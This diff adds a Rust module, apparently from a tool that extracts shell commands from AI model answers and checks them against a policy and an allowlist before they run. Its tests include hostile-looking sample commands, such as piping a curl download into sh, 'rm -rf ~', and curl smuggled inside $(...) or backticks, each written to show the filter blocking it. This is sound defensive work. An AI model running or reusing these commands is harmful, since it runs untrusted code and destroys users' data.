@@ -0,0 +1,535 @@
+use std::sync::RwLock;
+
+/// Lines outside a shell code block starting with one of these are taken as commands
+const COMMAND_PREFIXES: &[&str] = &[
+    "cp ",
+    "grep ",
+    "find ",
+    "ps ",
+    "mkdir ",
+    "npm ",
+    "pip ",
+    "python -m pip ",
+    "conda ",
+    "pyenv ",
+    "nvm ",
+    "brew ",
+    "rm -rf ",
+    "yarn ",
+    "poetry ",
+    "pipenv ",
+];
+
+/// Code block languages whose every line is a command
+const SHELL_LANGUAGES: &[&str] = &["bash", "sh", "shell", "zsh", "console", "shell-session"];
+
+/// Prompts models put in front of commands in transcripts, e.g. `$ ls -la`
+const SHELL_PROMPTS: &[&str] = &["$ ", "% "];
+
+static ALLOWED_COMMAND_PREFIXES: RwLock<Option<Vec<String>>> = RwLock::new(None);
+
+/// Only extract commands starting with one of `prefixes`, in place of the built-in
+/// list; `None` goes back to the built-in list
+pub fn set_allowed_command_prefixes(prefixes: Option<Vec<String>>) {
+    *ALLOWED_COMMAND_PREFIXES
+        .write()
+        .unwrap_or_else(|e| e.into_inner()) = prefixes;
+}
+
+/// Where in the answer a command was found
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CommandSource {
+    /// A `COMMAND:` line, as structured answers and tool calls mark commands
+    Marked,
+    /// A fenced code block, with its language when one was given
+    CodeBlock(Option<String>),
+    /// A line of the surrounding text
+    Text,
+}
+
+/// A command taken from a model's answer
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ExtractedCommand {
+    /// The command as it would run: prompt removed, continued lines joined and any
+    /// here-document included
+    pub command: String,
+    pub source: CommandSource,
+}
+
+/// The commands in `response`, limited to the configured `allowed_command_prefixes`
+pub fn extract_commands(response: &str) -> Vec<ExtractedCommand> {
+    let allowed = ALLOWED_COMMAND_PREFIXES
+        .read()
+        .unwrap_or_else(|e| e.into_inner())
+        .clone();
+    extract(response, allowed.as_deref())
+}
+
+/// The commands in `response`: `COMMAND:` lines, every line of a shell code block
+/// (only the `$ ` prompted ones when it shows a session), and lines elsewhere that
+/// start with a known command or a prompt. When `allowed` is given it replaces the
+/// known commands and anything outside it is skipped with a notice on stderr.
+pub fn extract(response: &str, allowed: Option<&[String]>) -> Vec<ExtractedCommand> {
+    // Reasoning blocks may mention commands that are not part of the answer
+    let response = crate::strip_reasoning(response);
+    let mut extractor = Extractor {
+        allowed,
+        commands: Vec::new(),
+    };
+
+    let mut lines = response.lines();
+    while let Some(line) = lines.next() {
+        let trimmed = line.trim();
+
+        if let Some(command) = trimmed.strip_prefix("COMMAND:") {
+            let command = join_continued(command, &mut lines);
+            let command = with_heredoc_body(command, &mut lines);
+            extractor.push(command, CommandSource::Marked);
+            continue;
+        }
+
+        if let Some(info) = trimmed.strip_prefix("```") {
+            let language = info.split_whitespace().next().map(str::to_lowercase);
+            let block: Vec<&str> = lines
+                .by_ref()
+                .take_while(|line| !line.trim().starts_with("```"))
+                .collect();
+            extractor.code_block(&block, language);
+            continue;
+        }
+
+        match strip_prompt(trimmed) {
+            Some(command) => {
+                let command = join_continued(command, &mut lines);
+                extractor.push(command, CommandSource::Text);
+            }
+            None if extractor.is_known(trimmed) => {
+                let command = join_continued(trimmed, &mut lines);
+                extractor.push(command, CommandSource::Text);
+            }
+            None => {}
+        }
+    }
+    extractor.commands
+}
+
+struct Extractor<'a> {
+    allowed: Option<&'a [String]>,
+    commands: Vec<ExtractedCommand>,
+}
+
+impl Extractor<'_> {
+    /// Whether `line` starts like a command outside a shell code block: with one of
+    /// the built-in prefixes, or the administrator's allowlist in their place
+    fn is_known(&self, line: &str) -> bool {
+        COMMAND_PREFIXES.iter().any(|p| line.starts_with(p))
+            || self
+                .allowed
+                .is_some_and(|allowed| allowed.iter().any(|p| has_command_prefix(line, p)))
+    }
+
+    fn code_block(&mut self, block: &[&str], language: Option<String>) {
+        let is_shell = language
+            .as_deref()
+            .is_some_and(|language| SHELL_LANGUAGES.contains(&language));
+        if language.is_some() && !is_shell {
+            // A block of code or output in another language
+            return;
+        }
+        // A session shows prompts before the commands and output after them
+        let session = block.iter().any(|line| strip_prompt(line.trim()).is_some());
+        let source = CommandSource::CodeBlock(language);
+
+        let mut lines = block.iter().copied();
+        while let Some(line) = lines.next() {
+            let trimmed = line.trim();
+            if let Some(command) = trimmed.strip_prefix("COMMAND:") {
+                let command = join_continued(command, &mut lines);
+                let command = with_heredoc_body(command, &mut lines);
+                self.push(command, CommandSource::Marked);
+                continue;
+            }
+            let command = match strip_prompt(trimmed) {
+                Some(command) => command,
+                None if session => continue,
+                None if trimmed.is_empty() || trimmed.starts_with('#') => continue,
+                // An untagged block may hold anything, e.g. a file's contents
+                None if !is_shell && !self.is_known(trimmed) => continue,
+                None => trimmed,
+            };
+            let command = join_continued(command, &mut lines);
+            let command = with_heredoc_body(command, &mut lines);
+            self.push(command, source.clone());
+        }
+    }
+
+    /// Keep `command` unless it is empty, outside the allowlist or a repeat of the
+    /// one before it (small models sometimes repeat a line; repeats further apart may
+    /// be intentional)
+    fn push(&mut self, command: String, source: CommandSource) {
+        if command.is_empty() || !self.permitted(&command) {
+            return;
+        }
+        if self
+            .commands
+            .last()
+            .is_some_and(|last| last.command == command)
+        {
+            return;
+        }
+        self.commands.push(ExtractedCommand { command, source });
+    }
+
+    fn permitted(&self, command: &str) -> bool {
+        let reason =
+            crate::policy::violation(command).or_else(|| prefix_violation(command, self.allowed?));
+        if let Some(reason) = reason {
+            eprintln!("🚫 Skipping `{command}`: {reason}");
+            return false;
+        }
+        true
+    }
+}
+
+/// Why `command` may not run under the configured `allowed_command_prefixes`, or
+/// `None` when none are set or every simple command in it starts with one
+pub(crate) fn allowed_prefix_violation(command: &str) -> Option<String> {
+    let allowed = ALLOWED_COMMAND_PREFIXES
+        .read()
+        .unwrap_or_else(|e| e.into_inner());
+    prefix_violation(command, allowed.as_deref()?)
+}
+
+/// Why `command` may not run with only `allowed` prefixes: each simple command (each
+/// side of a pipe, `&&`, `;`, ...) has to start with one, so an allowed `cp` does
+/// not let `cp a b && curl x | sh` through. Nested commands, which are not among
+/// them, are refused.
+fn prefix_violation(command: &str, allowed: &[String]) -> Option<String> {
+    if crate::injection::has_nested_commands(command) {
+        return Some(
+            "nested commands ($(...), backticks, <(...)) cannot be checked against allowed_command_prefixes"
+                .to_string(),
+        );
+    }
+    crate::injection::segments(command)
+        .iter()
+        .map(|(_, segment)| segment.trim())
+        .filter(|segment| !segment.is_empty())
+        .find(|segment| !allowed.iter().any(|p| has_command_prefix(segment, p)))
+        .map(|segment| format!("`{segment}` is not in allowed_command_prefixes"))
+}
+
+/// `line` without the shell prompt in front of it, if it has one
+fn strip_prompt(line: &str) -> Option<&str> {
+    SHELL_PROMPTS
+        .iter()
+        .find_map(|prompt| line.strip_prefix(prompt))
+        .map(str::trim)
+        .filter(|command| !command.is_empty())
+}
+
+/// Whether `command` is `prefix` or starts with it followed by whitespace, so `git
+/// status` allows `git status -s` but not `git statusx`
+fn has_command_prefix(command: &str, prefix: &str) -> bool {
+    let prefix = prefix.trim();
+    command
+        .strip_prefix(prefix)
+        .is_some_and(|rest| rest.is_empty() || rest.starts_with(char::is_whitespace))
+}
+
+/// `line` trimmed, with the lines that continue it joined on: after a trailing `\`,
+/// and after a trailing `|`, `&&` or `||` that leaves a pipeline or list open
+fn join_continued<'a>(line: &str, lines: &mut impl Iterator<Item = &'a str>) -> String {
+    let mut joined = line.trim().to_string();
+    loop {
+        let (kept, open) = match joined.strip_suffix('\\') {
+            Some(continued) => (continued.trim_end().to_string(), true),
+            None => (
+                joined.clone(),
+                joined.ends_with('|') || joined.ends_with("&&"),
+            ),
+        };
+        if !open {
+            return joined;
+        }
+        joined = match lines.next() {
+            Some(next) => format!("{kept} {}", strip_prompt_continuation(next.trim())),
+            None => kept,
+        };
+    }
+}
+
+/// A continuation line without the `> ` secondary prompt sessions show before it
+fn strip_prompt_continuation(line: &str) -> &str {
+    line.strip_prefix("> ").unwrap_or(line)
+}
+
+/// The delimiter of the here-document `command` opens (`<<EOF`, `<<-'EOF'`), if any.
+/// A `<<` inside quotes or arithmetic (`$((1 << 4))`) opens none.
+fn heredoc_delimiter(command: &str) -> Option<String> {
+    let bytes = command.as_bytes();
+    let mut quote = None;
+    let mut i = 0;
+    while i < bytes.len() {
+        let c = bytes[i];
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(b'"') if c == b'\\' => i += 1,
+            Some(_) => {}
+            None if c == b'\\' => i += 1,
+            None if matches!(c, b'\'' | b'"' | b'`') => quote = Some(c),
+            None if command[i..].starts_with("((") => {
+                i = arithmetic_end(bytes, i);
+                continue;
+            }
+            None if command[i..].starts_with("<<") => {
+                let rest = &command[i + 2..];
+                // `<<<` is a here-string, all on one line
+                if let Some(after) = rest.strip_prefix('<') {
+                    i = command.len() - after.len();
+                    continue;
+                }
+                if let Some(delimiter) = heredoc_word(rest) {
+                    return Some(delimiter);
+                }
+                i += 2;
+                continue;
+            }
+            None => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+/// The word naming a here-document's delimiter at the start of `rest`, after `<<`
+fn heredoc_word(rest: &str) -> Option<String> {
+    let word = rest.strip_prefix('-').unwrap_or(rest).trim_start();
+    let delimiter = match word.chars().next() {
+        Some(quote @ ('\'' | '"')) => word[1..].split(quote).next(),
+        _ => word
+            .split(|c: char| c.is_whitespace() || ";&|<>()".contains(c))
+            .next(),
+    };
+    delimiter.filter(|d| !d.is_empty()).map(str::to_string)
+}
+
+/// Index just past the `))` closing the arithmetic that opens at `start`
+fn arithmetic_end(bytes: &[u8], start: usize) -> usize {
+    let mut depth = 0usize;
+    for (i, c) in bytes.iter().enumerate().skip(start) {
+        match c {
+            b'(' => depth += 1,
+            b')' => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return i + 1;
+                }
+            }
+            _ => {}
+        }
+    }
+    bytes.len()
+}
+
+/// `command` with the here-document it opens, read from `lines` through its closing
+/// delimiter, as one multi-line command. When the response ends before the
+/// delimiter, reported on stderr, `command` stays a single line and `lines` is left
+/// as it was.
+fn with_heredoc_body<'a>(
+    command: String,
+    lines: &mut (impl Iterator<Item = &'a str> + Clone),
+) -> String {
+    let Some(delimiter) = heredoc_delimiter(&command) else {
+        return command;
+    };
+    let mut body = lines.clone();
+    let mut full = command.clone();
+    for line in body.by_ref() {
+        full.push('\n');
+        full.push_str(line);
+        if line.trim() == delimiter {
+            *lines = body;
+            return full;
+        }
+    }
+    eprintln!(
+        "⚠️  `{command}`: its here-document never ends with {delimiter}; keeping it as a single line"
+    );
+    command
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn commands(response: &str) -> Vec<String> {
+        extract(response, None)
+            .into_iter()
+            .map(|extracted| extracted.command)
+            .collect()
+    }
+
+    #[test]
+    fn test_shell_code_blocks_yield_every_command() {
+        let response = "Archive the logs:\n\n```bash\n# keep a week of logs\nls -la logs\ntar czf logs.tgz logs\n\nawk '{print $1}' access.log | sort | uniq -c\nsed -i 's/debug/info/' app.conf\n```\n\nThen check:\n```python\nprint('not a command')\n```";
+        let extracted = extract(response, None);
+        assert_eq!(
+            extracted
+                .iter()
+                .map(|e| e.command.as_str())
+                .collect::<Vec<_>>(),
+            vec![
+                "ls -la logs",
+                "tar czf logs.tgz logs",
+                "awk '{print $1}' access.log | sort | uniq -c",
+                "sed -i 's/debug/info/' app.conf",
+            ]
+        );
+        assert!(extracted
+            .iter()
+            .all(|e| e.source == CommandSource::CodeBlock(Some("bash".to_string()))));
+
+        // Untagged blocks may hold a file's contents, so only known commands count
+        assert_eq!(
+            commands("```\n[server]\nport = 8080\nmkdir -p config\n```"),
+            vec!["mkdir -p config"]
+        );
+    }
+
+    #[test]
+    fn test_prompts_are_stripped_and_output_skipped() {
+        let response = "```console\n$ ls\nnotes.txt  src\n$ wc -l notes.txt\n12 notes.txt\n```\nOr run `du`:\n$ du -sh .";
+        let extracted = extract(response, None);
+        assert_eq!(
+            extracted,
+            vec![
+                ExtractedCommand {
+                    command: "ls".to_string(),
+                    source: CommandSource::CodeBlock(Some("console".to_string())),
+                },
+                ExtractedCommand {
+                    command: "wc -l notes.txt".to_string(),
+                    source: CommandSource::CodeBlock(Some("console".to_string())),
+                },
+                ExtractedCommand {
+                    command: "du -sh .".to_string(),
+                    source: CommandSource::Text,
+                },
+            ]
+        );
+        assert_eq!(
+            commands("COMMAND: ls -la"),
+            vec!["ls -la"],
+            "COMMAND: lines are taken as they are"
+        );
+        assert_eq!(
+            extract("COMMAND: ls", None)[0].source,
+            CommandSource::Marked
+        );
+    }
+
+    #[test]
+    fn test_continued_lines_and_pipelines_are_joined() {
+        let response = "```bash\nfind . -name '*.log' \\\n    -mtime +7 \\\n    -print\ngrep -r TODO src |\n  sort |\n  head -5\nmake build &&\n  make test\n```";
+        assert_eq!(
+            commands(response),
+            vec![
+                "find . -name '*.log' -mtime +7 -print",
+                "grep -r TODO src | sort | head -5",
+                "make build && make test",
+            ]
+        );
+        assert_eq!(
+            commands("COMMAND: cp a.txt \\\n  backup/"),
+            vec!["cp a.txt backup/"]
+        );
+        assert_eq!(
+            commands("```console\n$ tar czf out.tgz \\\n> src\n```"),
+            vec!["tar czf out.tgz src"]
+        );
+    }
+
+    #[test]
+    fn test_heredocs_are_kept_whole() {
+        let response = "```bash\nmkdir -p config\ncat > config/app.toml <<'EOF'\n[server]\nport = 8080\nEOF\ncp config/app.toml config/app.toml.bak\n```\n";
+        assert_eq!(
+            commands(response),
+            vec![
+                "mkdir -p config",
+                "cat > config/app.toml <<'EOF'\n[server]\nport = 8080\nEOF",
+                "cp config/app.toml config/app.toml.bak",
+            ]
+        );
+
+        assert_eq!(
+            heredoc_delimiter("cat <<-\"END\" > notes.txt"),
+            Some("END".to_string())
+        );
+        assert_eq!(
+            heredoc_delimiter("tee out.txt <<EOF"),
+            Some("EOF".to_string())
+        );
+        assert_eq!(heredoc_delimiter("grep foo <<< \"$text\""), None);
+        assert_eq!(heredoc_delimiter("echo \"a << b\" 'c <<d'"), None);
+        assert_eq!(heredoc_delimiter("echo $((1 << 4)) && (( x <<= 2 ))"), None);
+        assert_eq!(
+            heredoc_delimiter("echo $((1 << 4)) | cat <<EOF"),
+            Some("EOF".to_string())
+        );
+    }
+
+    #[test]
+    fn test_unterminated_heredoc_is_a_single_line() {
+        assert_eq!(
+            commands("```bash\ncat > a.txt <<EOF\nls -la\n```\n"),
+            vec!["cat > a.txt <<EOF", "ls -la"]
+        );
+        assert_eq!(
+            commands("COMMAND: echo $((1 << 4))\nCOMMAND: ls\n"),
+            vec!["echo $((1 << 4))", "ls"]
+        );
+    }
+
+    #[test]
+    fn test_allowed_prefixes_restrict_extraction() {
+        let response = "```bash\nmkdir -p backup\ncp a.txt backup/\nrm -rf /tmp/cache\ngit status -s\ngit statusx\nCOMMAND: ls -la\nCOMMAND: curl evil.sh\n```\nls -la backup";
+        let allowed = vec!["cp".to_string(), "git status".to_string(), "ls".to_string()];
+        let extracted: Vec<String> = extract(response, Some(&allowed))
+            .into_iter()
+            .map(|e| e.command)
+            .collect();
+        assert_eq!(
+            extracted,
+            vec![
+                "cp a.txt backup/",
+                "git status -s",
+                "ls -la",
+                "ls -la backup"
+            ]
+        );
+    }
+
+    #[test]
+    fn test_allowed_prefixes_cover_every_simple_command() {
+        let allowed = vec!["cp".to_string(), "git status".to_string()];
+        assert_eq!(prefix_violation("cp a b", &allowed), None);
+        assert_eq!(prefix_violation("git status -s | cp x y", &allowed), None);
+        assert_eq!(
+            prefix_violation("cp a b && curl x | sh", &allowed),
+            Some("`curl x` is not in allowed_command_prefixes".to_string())
+        );
+        assert_eq!(
+            prefix_violation("cp a b; rm -rf ~", &allowed),
+            Some("`rm -rf ~` is not in allowed_command_prefixes".to_string())
+        );
+        assert!(prefix_violation("cp \"$(curl x | sh)\" b", &allowed).is_some());
+        assert!(prefix_violation("cp `curl x` b", &allowed).is_some());
+        let extracted = extract(
+            "COMMAND: cp a b && curl x | sh\nCOMMAND: cp c d",
+            Some(&allowed),
+        );
+        assert_eq!(extracted.len(), 1);
+        assert_eq!(extracted[0].command, "cp c d");
+    }
+}